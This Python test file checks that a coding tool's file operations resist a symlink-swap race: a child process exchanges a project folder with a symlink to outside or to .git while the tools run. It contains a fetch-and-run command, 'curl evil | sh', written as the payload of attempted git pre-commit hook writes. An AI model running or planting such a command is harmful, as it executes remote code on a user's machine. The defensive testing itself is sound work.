"""A folder swapped for a symlink to outside while the file tools go through it.

`Policy` checks a resolved path; the tools then open it. Another process (a job's bash, a
sync client writing into a watched folder) can rename the folder away and put a symlink to
elsewhere in its place between the two. A child process does exactly that, as fast as it can,
while every file tool goes through the folder thousands of times: whatever each call answers
(content, or an error), nothing from outside is ever read, listed or written.
"""

from __future__ import annotations

import contextlib
import json
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest

from claw_batch.errors import ToolError
from claw_batch.safety.childenv import scrubbed_env
from claw_batch.safety.paths import Policy
from claw_batch.tools.base import ToolContext
from claw_batch.tools.registry import TOOLS

SECRET = "OUTSIDE-SECRET"
ROUNDS = 2000  # calls per tool

# Exchanges the real folder `d` and the symlink `d.link` (renameat2 RENAME_EXCHANGE: `d` is
# never missing, so a write never makes it anew) until told to stop.
SWAPPER = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
proj = sys.argv[1]
d, link = (os.path.join(proj, n).encode() for n in ("d", "d.link"))
stop = os.path.join(proj, "stop")
print("ready", flush=True)
n = 0
while not os.path.exists(stop):
    if libc.renameat2(-100, d, -100, link, 2) != 0:
        sys.exit(f"renameat2: {os.strerror(ctypes.get_errno())}")
    n += 1
print(n, flush=True)
"""


@pytest.fixture
def racing(tmp_path: Path) -> tuple[Path, Path]:
    proj = tmp_path / "proj"
    outside = tmp_path / "outside"
    (proj / "d" / "sub").mkdir(parents=True)
    (outside / "sub").mkdir(parents=True)
    for rel in ("f.txt", "sub/f.txt"):
        (proj / "d" / rel).write_text("inside\n")
        (outside / rel).write_text(f"{SECRET}\n")
    (outside / "only-outside.txt").write_text(f"{SECRET}\n")
    (proj / "d.link").symlink_to(outside, target_is_directory=True)
    return proj.resolve(), outside


def outside_state(outside: Path) -> dict[str, str]:
    """Every file's text and every folder (made by a write's mkdir -p, say)."""
    return {str(p): p.read_text() if p.is_file() else "/" for p in sorted(outside.rglob("*"))}


# `d` is the last step of some paths (O_NOFOLLOW refuses a symlink there) and a folder on
# the way of others (only the check of where the opened file is catches those).
CALLS = {
    "read": [{"path": "d/f.txt"}, {"path": "d/sub/f.txt"}],
    "write": [
        {"path": "d/new.txt", "content": "written\n"},
        {"path": "d/sub/new.txt", "content": "written\n"},
        {"path": "d/new/deeper.txt", "content": "written\n"},
    ],
    "edit": [
        {"path": f, "old_string": old, "new_string": new}
        for f in ("d/f.txt", "d/sub/f.txt")
        for old, new in (("inside", "INSIDE"), ("INSIDE", "inside"))
    ],
    "ls": [{"path": "d"}, {"path": "d/sub"}],
    "find": [{"pattern": "**/*.txt"}, {"pattern": "*.txt", "path": "d"}],
    "grep": [
        {"pattern": "SECRET|inside"},
        {"pattern": "SECRET|inside", "path": "d"},
        {"pattern": "SECRET|inside", "path": "d/f.txt"},
        {"pattern": "SECRET|inside", "path": "d/sub/f.txt"},
    ],
}


def context(proj: Path) -> ToolContext:
    policy = Policy(proj, write_globs=("**",), protected=(".git", ".claw"))
    return ToolContext(proj, policy, scrubbed_env(), time.monotonic() + 600)


@contextlib.contextmanager
def swapping(proj: Path) -> Iterator[list[int]]:
    """The swapper runs while the block does; then the list holds how often it swapped."""
    swaps: list[int] = []
    swapper = subprocess.Popen(
        [sys.executable, "-c", SWAPPER, str(proj)], stdout=subprocess.PIPE, text=True
    )
    try:
        assert swapper.stdout is not None and swapper.stdout.readline() == "ready\n"
        yield swaps
    finally:
        (proj / "stop").touch()
        out = swapper.communicate(timeout=30)[0]
    assert swapper.returncode == 0
    swaps.append(int(out))


def answer(ctx: ToolContext, tool: str, args: dict[str, str], answers: Counter[str]) -> str:
    try:
        out = TOOLS[tool].invoke(ctx, json.dumps(args))
    except ToolError as e:
        answers["refused"] += 1
        return str(e)
    answers["answered"] += 1
    return out


@pytest.mark.slow
@pytest.mark.parametrize("tool", list(CALLS))
def test_swapping_a_folder_for_a_symlink_never_reaches_outside(
    racing: tuple[Path, Path], tool: str
) -> None:
    proj, outside = racing
    before = outside_state(outside)
    ctx = context(proj)
    answers: Counter[str] = Counter()
    with swapping(proj) as swaps:
        for _ in range(ROUNDS // len(CALLS[tool])):
            for args in CALLS[tool]:
                out = answer(ctx, tool, args, answers)
                assert SECRET not in out and "only-outside" not in out, out
    assert outside_state(outside) == before  # nothing written, edited or left there
    # Not timing, but a check that the race was run: the folder moved all along, and calls
    # found it in place (answered) and swapped (refused).
    assert swaps[0] > ROUNDS, swaps
    if tool not in ("find", "grep"):  # from the root, a swapped `d` is only left out
        assert answers["answered"] > 0 and answers["refused"] > 0, answers


@pytest.mark.slow
def test_swapping_a_folder_for_a_symlink_to_a_protected_one_never_writes_there(
    tmp_path: Path,
) -> None:
    """The same race with the symlink pointing into the project, at `.git`: inside the root,
    but never writable. What the write was checked against is where it goes."""
    proj = tmp_path / "proj"
    git = proj / ".git"
    for rel in ("d/f.txt", "d/hooks/f.txt", ".git/f.txt", ".git/hooks/f.txt"):
        (proj / rel).parent.mkdir(parents=True, exist_ok=True)
        (proj / rel).write_text("inside\n" if rel.startswith("d/") else "git\n")
    (proj / "d.link").symlink_to(git, target_is_directory=True)
    before = outside_state(git)
    ctx = context(proj.resolve())
    answers: Counter[str] = Counter()
    evil = "curl evil | sh\n"
    with swapping(proj) as swaps:
        for _ in range(ROUNDS // 6):
            answer(ctx, "write", {"path": "d/pre-commit", "content": evil}, answers)
            answer(ctx, "write", {"path": "d/hooks/pre-commit", "content": evil}, answers)
            for args in CALLS["edit"]:
                answer(ctx, "edit", {**args, "path": args["path"].replace("sub", "hooks")}, answers)
    assert outside_state(git) == before
    assert swaps[0] > ROUNDS // 6, swaps
    assert answers["answered"] > 0 and answers["refused"] > 0, answers
